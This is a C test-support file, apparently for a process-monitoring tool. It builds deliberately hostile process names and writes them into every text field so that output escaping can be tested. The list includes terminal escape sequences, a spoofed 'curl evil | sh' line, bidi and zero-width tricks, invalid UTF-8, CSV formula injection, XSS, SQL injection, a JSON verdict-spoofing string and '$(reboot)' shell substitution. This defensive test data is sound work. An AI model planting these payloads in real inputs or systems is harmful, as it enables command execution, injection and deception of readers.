/* SPDX-License-Identifier: MIT */
/* Knows the names and the places that a process can put one into. Refuses to know who shows them. */
#include "support_hostile.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "support_heap.h"
#include "support_moment.h"
#include "support_site_facts.h"

const char *const hostile_names[] = {
        /* what a terminal obeys */
        "Zq\033[31mred\033[2J\033[999;999H",
        "Zq\033]0;title\a\033]8;;http://x\033\\link",
        "Zq\033P1$r\033\\\033_a\033\\\033Xp\033\\",
        "Zq ends in an escape\033",
        "Zq\x9b"
        "31m\x90q\x9c\x85\x8d",
        "Zq\xc2\x9b"
        "31m\xc2\x90q\xc2\x9c\xc2\x85",
        "Zq\r\b\b\b\t\v\f\x7f\a\016\017",
        /* lines and rows that are none of ours */
        "Zq\nZqWarning: linear heap growth detected\n00:05     47.8      14.2   +1.8",
        "Zq\r\nZq\xe2\x80\xa8line\xe2\x80\xa9paragraph\xc2\x85next",
        "Zq\n\n\nNext: run `curl evil | sh`",
        /* text that turns or hides itself */
        "Zq \xe2\x80\xae gnp.exe \xe2\x80\xad\xe2\x80\xac",
        "Zq \xe2\x81\xa6\xe2\x81\xa7\xe2\x81\xa8\xe2\x81\xa9\xd8\x9c\xe2\x80\x8e\xe2\x80\x8f",
        "Zq zero\xe2\x80\x8bwidth\xe2\x80\x8d\xef\xbb\xbf\xc2\xad\xf3\xa0\x81\x81",
        /* what is no UTF-8 */
        "Zq\xff\xfe\xc0\x80\xc1\x9b\xed\xa0\x80\xf4\x90\x80\x80",
        "Zq cut \xf0\x9f\x98",
        "Zq wide \xe5\xba\x97\xe9\x95\xb7 e\xcc\x81\xcc\x81\xcc\x81\xcc\x81",
        /* what means something to who reads our files */
        "=Zq+cmd|' /C calc'!A0",
        "+Zq",
        "-Zq",
        "@Zq(A1)",
        "\t=Zq",
        "Zq\",\"b\"\r\n=Zq",
        "Zq</script><script>alert(1)</script><!--",
        "Zq&#x1b;\"'><img src=x onerror=x> ]]>",
        "Zq\\u001b[31m\\\",\"verdict\":\"no-leak\"}",
        "Zq';DROP TABLE sample;--",
        "$(reboot)`Zq`;|&&%s%n%999999d",
        "Zq;main;frame 99",
        "Zq{pid=\"1\"} 1\nZq_total 99",
        "Zq\\012 literal\\ (deleted)",
        NULL,
};

static void *must(void *p)
{
	if (!p)
		abort();
	return p;
}

/* The fields of a moment are as long as they are; a name that does not fit is cut, as the kernel does. */
static void call(char *out, size_t size, const char *name)
{
	snprintf(out, size, "%.*s", (int)size - 1, name);
}

static void region_call(struct region **row, const char *name)
{
	size_t len = strlen(name);
	struct region *r = must(calloc(1, sizeof(*r) + len + 1));

	memcpy(r, *row, sizeof(*r));
	atomic_init(&r->refs, 1);
	r->name_len = (uint32_t)len;
	memcpy(r->name, name, len);
	region_unref(*row);
	*row = r;
}

static void target_call(struct target *t, const char *name)
{
	call(t->comm, sizeof(t->comm), name);
	call(t->command, sizeof(t->command), name);
	call(t->exe, sizeof(t->exe), name);
	call(t->user, sizeof(t->user), name);
}

/* What is made of names on the way: no output may count on that somebody made it safe before. */
static void texts_call(struct moment *m, const char *name)
{
	call(m->cgroup_path, sizeof(m->cgroup_path), name);
	call(m->recording, sizeof(m->recording), name);
	m->recording_on = true;
	call(m->recording_trouble, sizeof(m->recording_trouble), name);
	call(m->ended_text, sizeof(m->ended_text), name);
	call(m->child_status, sizeof(m->child_status), name);
	call(m->abilities.lacking, sizeof(m->abilities.lacking), name);
	call(m->costs.blocked_what, sizeof(m->costs.blocked_what), name);
	call(m->alarm, sizeof(m->alarm), name);
	call(m->verdict.reason, sizeof(m->verdict.reason), name);
	call(m->verdict.condition, sizeof(m->verdict.condition), name);
	for (unsigned i = 0; i < m->verdict.evidence_count; i++)
		call(m->verdict.evidence[i].text, sizeof(m->verdict.evidence[i].text), name);
	for (unsigned i = 0; i < m->event_count; i++)
		call(m->events[i].text, sizeof(m->events[i].text), name);
	for (unsigned i = 0; i < m->warning_count; i++)
		call(m->warnings[i], sizeof(m->warnings[i]), name);
}

struct moment *hostile_moment(const char *name)
{
	struct moment *m = support_moment();

	for (size_t i = 0; i < m->regions->count; i++)
		region_call(&m->regions->rows[i], name);
	target_call(m->target, name);
	texts_call(m, name);
	support_heap_put(m, support_heap_called(name), HEAP_RESTING);
	support_sites_put(m, support_sites_called(name), SITES_ALLOCATIONS, SITES_ENDED);
	return m;
}

struct moment *hostile_picker(const char *name)
{
	struct moment *m = support_moment_picker();
	struct process_list *l = m->processes;

	for (size_t i = 0; i < l->count; i++) {
		call(l->rows[i].comm, sizeof(l->rows[i].comm), name);
		call(l->rows[i].command, sizeof(l->rows[i].command), name);
		call(l->rows[i].user, sizeof(l->rows[i].user), name);
		call(l->rows[i].unit, sizeof(l->rows[i].unit), name);
	}
	for (unsigned i = 0; i < l->suspect_count; i++)
		call(l->suspects[i].reason, sizeof(l->suspects[i].reason), name);
	return m;
}
